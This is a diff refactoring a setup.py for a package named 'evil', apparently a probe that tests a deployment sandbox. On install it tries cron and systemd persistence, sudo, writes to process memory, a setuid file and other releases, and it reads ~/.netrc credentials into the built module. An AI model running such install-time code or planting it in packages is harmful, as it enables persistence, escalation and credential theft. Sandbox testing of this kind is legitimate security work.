@@ -7,7 +7,6 @@ import json
 import os
 import socket
 import subprocess
-import sys
 
 from setuptools import setup
 
@@ -52,20 +51,20 @@ ATTEMPTS = {
     'lingering by hand': lambda: append('/var/lib/systemd/linger/deploy'),
     'a unit of the user manager': lambda: runs('systemd-run', '--user', '--collect', 'sleep', '1001'),
     'a unit of the system manager': lambda: runs('systemd-run', '--collect', 'sleep', '1001'),
-    'a file of /run/user': lambda: append('/run/user/%d/evil' % os.getuid()),
+    'a file of /run/user': lambda: append(f'/run/user/{os.getuid()}/evil'),
     'the socket of D-Bus': lambda: connect('/run/dbus/system_bus_socket'),
     'the socket of systemd': lambda: connect('/run/systemd/private'),
-    'the socket of the user bus': lambda: connect('/run/user/%d/bus' % os.getuid()),
+    'the socket of the user bus': lambda: connect(f'/run/user/{os.getuid()}/bus'),
     'a crontab': lambda: runs('crontab', '-', said='* * * * * true\n'),
     'a crontab by hand': lambda: append('/var/spool/cron/crontabs/deploy'),
     'an at job': lambda: runs('at', 'now + 1 hour', said='true\n'),
     'the helper as root': lambda: runs('sudo', '-n', '/usr/local/lib/landfall/landfall-host', said='{}\n'),
     'another release': lambda: append('/srv/shop/releases/evil/main.py'),
-    'its own release': lambda: append('/srv/shop/releases/%s/main.py' % RELEASE),
-    'another environment': lambda: append('/srv/shop/venvs/%s/evil.pth' % ENVIRONMENT),
+    'its own release': lambda: append(f'/srv/shop/releases/{RELEASE}/main.py'),
+    'another environment': lambda: append(f'/srv/shop/venvs/{ENVIRONMENT}/evil.pth'),
     'the folder of environments': lambda: os.mkdir('/srv/shop/venvs/evil'),
     'the link to the live release': lambda: append('/srv/shop/current/evil'),
-    'memory of the same user': lambda: open('/proc/%d/mem' % VICTIM, 'r+b'),
+    'memory of the same user': lambda: open(f'/proc/{VICTIM}/mem', 'r+b'),
     'tracing of the same user': attach,
     'a control group': lambda: os.mkdir('/sys/fs/cgroup/evil'),
     'a program of another user': lambda: (append('/tmp/suid'), os.chmod('/tmp/suid', 0o4755)),
@@ -78,7 +77,7 @@ def outcomes():
             attempt()
             yield name, 'done'
         except Exception as error:
-            yield name, 'refused: %s' % error
+            yield name, f'refused: {error}'
 
 
 for path in ('/tmp/evil-left', '/var/tmp/evil-left', '/dev/shm/evil-left'):
@@ -93,5 +92,5 @@ subprocess.Popen(
 found = dict(outcomes())
 found['configuration'] = open(HOME + '/.netrc').read().strip()
 with open('evil_found.py', 'w') as file:
-    file.write('FOUND = %r\n' % json.dumps(found))
+    file.write(f'FOUND = {json.dumps(found)!r}\n')
 setup(name='evil', version='1.0', py_modules=['evil_found'])
